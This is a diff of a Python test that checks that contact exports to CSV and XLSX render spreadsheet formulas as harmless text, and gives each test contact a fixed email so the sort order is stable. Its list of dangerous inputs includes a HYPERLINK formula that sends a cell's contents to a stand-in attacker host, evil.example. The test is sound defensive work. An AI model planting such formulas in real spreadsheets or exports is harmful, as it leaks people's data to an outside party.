@@ -248,9 +248,13 @@ DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+1", "-2", "@SU
 
 
 def test_formulas_in_text_come_out_as_harmless_text(reader_client):
-    for name in DANGEROUS:
-        ContactFactory(first_name=name, last_name="", phone="+46 8 123 45 67")
-    ContactFactory(first_name="Anna", last_name="Svensson", phone="")
+    # Emails of their own, in the order of the names (the factory's sequence would sort
+    # "kontakt10" before "kontakt9", depending on the tests run before).
+    for i, name in enumerate(DANGEROUS):
+        ContactFactory(
+            first_name=name, last_name="", phone="+46 8 123 45 67", email=f"k{i}@example.se"
+        )
+    ContactFactory(first_name="Anna", last_name="Svensson", phone="", email="k9@example.se")
 
     rows = csv_rows(export(reader_client, "contacts", "csv", sort="email"))
     sheet = xlsx_sheet(export(reader_client, "contacts", "xlsx", sort="email"))
